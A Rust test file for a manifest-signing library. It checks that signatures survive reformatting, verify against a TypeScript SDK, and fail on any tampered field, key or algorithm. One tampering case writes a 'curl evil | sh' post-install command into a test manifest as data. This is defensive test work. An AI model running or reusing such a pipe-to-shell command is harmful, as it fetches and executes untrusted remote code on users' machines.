//! Signatures: round trips, every tampering refused with its own error, and interoperability
//! with the TypeScript SDK in both directions.

use std::path::Path;

use agent_bundles::keys::{KeyPair, PublicKey};
use agent_bundles::manifest::Manifest;
use agent_bundles::trust::RegistryPolicy;
use agent_bundles::verify::{self, SignatureStatus, VerifyError};
use serde_json::{Value, json};

const TS_KEY: &str = "ZzLClo23XmctaEt4zX--ubVfFQnuBEvHMSCwuLBpr4Q";
const SHA: &str = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";

fn fixture(name: &str) -> std::path::PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/ts-sdk")
        .join(name)
}

fn policy(keys: Vec<PublicKey>) -> RegistryPolicy {
    RegistryPolicy {
        registry: "https://reg.test".into(),
        official: true,
        require_signature: true,
        keys,
    }
}

fn sample() -> Value {
    json!({
        "name": "core-utils",
        "version": "1.2.3",
        "assets": [
            {"path": "b.wasm", "sha256": SHA, "size": 0},
            {"path": "a.wasm", "sha256": SHA, "size": 0}
        ],
        "commands": [
            {"name": "wc", "modulePath": "b.wasm"},
            {"name": "cat", "modulePath": "a.wasm", "limits": {"wallMs": 1000}}
        ],
        "homepage": "https://example.invalid"
    })
}

fn signed(key: &KeyPair) -> Value {
    let manifest = Manifest::from_value(sample()).unwrap();
    let signed = verify::sign_manifest(&manifest, key);
    Value::Object(signed.document().clone())
}

#[test]
fn a_manifest_signed_by_the_typescript_sdk_verifies_here() {
    let bytes = std::fs::read(fixture("core-utils-0.0.0.manifest.json")).unwrap();
    let manifest = Manifest::parse(&bytes).unwrap();
    let key = PublicKey::from_base64url("dev-2026-01", TS_KEY).unwrap();
    assert_eq!(
        verify::verify_manifest(&manifest, &policy(vec![key.clone()])).unwrap(),
        SignatureStatus::Verified {
            key_id: "dev-2026-01".into()
        }
    );
    // One changed byte of one hash and it no longer does.
    let mut value: Value = serde_json::from_slice(&bytes).unwrap();
    value["assets"][3]["sha256"] = json!(SHA);
    let tampered = Manifest::from_value(value).unwrap();
    assert!(matches!(
        verify::verify_manifest(&tampered, &policy(vec![key])),
        Err(VerifyError::BadSignature { .. })
    ));
}

#[test]
fn a_manifest_signed_here_verifies_with_webcrypto_as_the_typescript_sdk_does() {
    if std::process::Command::new("node")
        .arg("--version")
        .output()
        .is_err()
    {
        assert!(
            std::env::var_os("CI").is_none(),
            "node is required in CI (.ci/run installs it)"
        );
        eprintln!("skipped: node is not installed");
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let key = KeyPair::generate("rust-1").unwrap();
    // The TypeScript SDK's payload keeps only name, version, assets and commands, so a manifest
    // meant for it carries no other field.
    let mut plain = sample();
    plain.as_object_mut().unwrap().remove("homepage");
    plain["commands"][1]
        .as_object_mut()
        .unwrap()
        .remove("limits");
    let manifest = verify::sign_manifest(&Manifest::from_value(plain).unwrap(), &key);
    let path = dir.path().join("manifest.json");
    std::fs::write(&path, manifest.to_pretty_json()).unwrap();
    let run = |p: &Path, x: &str| {
        let out = std::process::Command::new("node")
            .arg(fixture("verify_webcrypto.mjs"))
            .arg(p)
            .arg(x)
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8(out.stdout).unwrap().trim().to_string()
    };
    assert_eq!(run(&path, &key.public().to_base64url()), "valid");
    let other = KeyPair::generate("other").unwrap();
    assert_eq!(run(&path, &other.public().to_base64url()), "invalid");
    let mut value: Value = serde_json::from_slice(&manifest.to_pretty_json()).unwrap();
    value["version"] = json!("1.2.4");
    std::fs::write(&path, serde_json::to_vec(&value).unwrap()).unwrap();
    assert_eq!(run(&path, &key.public().to_base64url()), "invalid");
    // And the SDK's own fixture passes the script, so the script is the SDK's rule.
    assert_eq!(
        run(&fixture("core-utils-0.0.0.manifest.json"), TS_KEY),
        "valid"
    );
}

#[test]
fn sign_verify_round_trip_survives_reformatting_and_reordering() {
    let key = KeyPair::generate("k1").unwrap();
    let mut value = signed(&key);
    // Layout, key order and array order do not matter: the signature covers canonical JSON.
    value["assets"].as_array_mut().unwrap().reverse();
    value["commands"].as_array_mut().unwrap().reverse();
    let text = serde_json::to_string_pretty(&value).unwrap();
    let manifest = Manifest::parse(text.as_bytes()).unwrap();
    assert!(verify::verify_manifest(&manifest, &policy(vec![key.public()])).is_ok());
}

#[test]
fn tampering_with_any_signed_field_is_refused() {
    let key = KeyPair::generate("k1").unwrap();
    type Edit = Box<dyn Fn(&mut Value)>;
    let edits: Vec<(&str, Edit)> = vec![
        ("name", Box::new(|v| v["name"] = json!("core-utilz"))),
        ("version", Box::new(|v| v["version"] = json!("1.2.4"))),
        (
            "asset path",
            Box::new(|v| {
                v["assets"][0]["path"] = json!("c.wasm");
                v["commands"][0]["modulePath"] = json!("c.wasm");
            }),
        ),
        (
            "asset sha256",
            Box::new(|v| v["assets"][1]["sha256"] = json!("a".repeat(64))),
        ),
        (
            "asset size",
            Box::new(|v| v["assets"][1]["size"] = json!(1)),
        ),
        (
            "command name",
            Box::new(|v| v["commands"][0]["name"] = json!("ls")),
        ),
        (
            "command module",
            Box::new(|v| v["commands"][0]["modulePath"] = json!("a.wasm")),
        ),
        (
            "limits",
            Box::new(|v| v["commands"][1]["limits"]["wallMs"] = json!(999_999)),
        ),
        (
            "added limits",
            Box::new(|v| v["commands"][0]["limits"] = json!({"memoryBytes": 1})),
        ),
        (
            "unknown field",
            Box::new(|v| v["homepage"] = json!("https://evil.invalid")),
        ),
        (
            "added field",
            Box::new(|v| v["postInstall"] = json!("curl evil | sh")),
        ),
        (
            "added asset",
            Box::new(|v| {
                v["assets"]
                    .as_array_mut()
                    .unwrap()
                    .push(json!({"path": "x.wasm", "sha256": SHA, "size": 0}))
            }),
        ),
        (
            "removed command",
            Box::new(|v| {
                v["commands"].as_array_mut().unwrap().pop();
            }),
        ),
    ];
    for (what, edit) in edits {
        let mut value = signed(&key);
        edit(&mut value);
        let manifest = Manifest::from_value(value).unwrap();
        assert_eq!(
            verify::verify_manifest(&manifest, &policy(vec![key.public()])),
            Err(VerifyError::BadSignature {
                key_id: "k1".into()
            }),
            "{what}"
        );
    }
}

#[test]
fn key_id_algorithm_signature_and_absence_each_have_their_error() {
    let key = KeyPair::generate("k1").unwrap();
    let trusted = policy(vec![key.public()]);

    let mut value = signed(&key);
    value["signature"]["keyId"] = json!("k2");
    let err = verify::verify_manifest(&Manifest::from_value(value).unwrap(), &trusted).unwrap_err();
    assert!(
        matches!(&err, VerifyError::UnknownKeyId { key_id, trusted, .. } if key_id == "k2" && trusted == "k1"),
        "{err}"
    );

    let mut value = signed(&key);
    value["signature"]["alg"] = json!("rsa");
    let err = verify::verify_manifest(&Manifest::from_value(value).unwrap(), &trusted).unwrap_err();
    assert_eq!(err, VerifyError::UnsupportedAlgorithm("rsa".into()));

    let mut value = signed(&key);
    value["signature"]["sigBase64"] = json!("AAAA");
    let err = verify::verify_manifest(&Manifest::from_value(value).unwrap(), &trusted).unwrap_err();
    assert!(matches!(err, VerifyError::BadSignature { .. }));

    // Signed by another key that claims the trusted key's id.
    let impostor = KeyPair::from_seed("k1", &[7u8; 32]);
    let value = signed(&impostor);
    let err = verify::verify_manifest(&Manifest::from_value(value).unwrap(), &trusted).unwrap_err();
    assert!(matches!(err, VerifyError::BadSignature { .. }));

    let unsigned = Manifest::from_value(sample()).unwrap();
    let err = verify::verify_manifest(&unsigned, &trusted).unwrap_err();
    assert!(
        err.to_string().starts_with("manifest signature required"),
        "{err}"
    );

    // A third-party registry without configured keys checks no signature.
    let open = RegistryPolicy {
        registry: "/srv/x".into(),
        official: false,
        require_signature: false,
        keys: vec![],
    };
    assert_eq!(
        verify::verify_manifest(&unsigned, &open).unwrap(),
        SignatureStatus::NotRequired { present: false }
    );
}

#[test]
fn asset_bytes_are_checked_for_size_then_hash() {
    let manifest = Manifest::from_value(sample()).unwrap();
    let asset = &manifest.assets[0];
    assert!(verify::verify_asset(asset, b"").is_ok());
    assert!(matches!(
        verify::verify_asset(asset, b"x"),
        Err(VerifyError::SizeMismatch {
            expected: 0,
            actual: 1,
            ..
        })
    ));
    let mut value = sample();
    value["assets"][0]["size"] = json!(1);
    let manifest = Manifest::from_value(value).unwrap();
    assert!(matches!(
        verify::verify_asset(&manifest.assets[0], b"x"),
        Err(VerifyError::HashMismatch { .. })
    ));
}
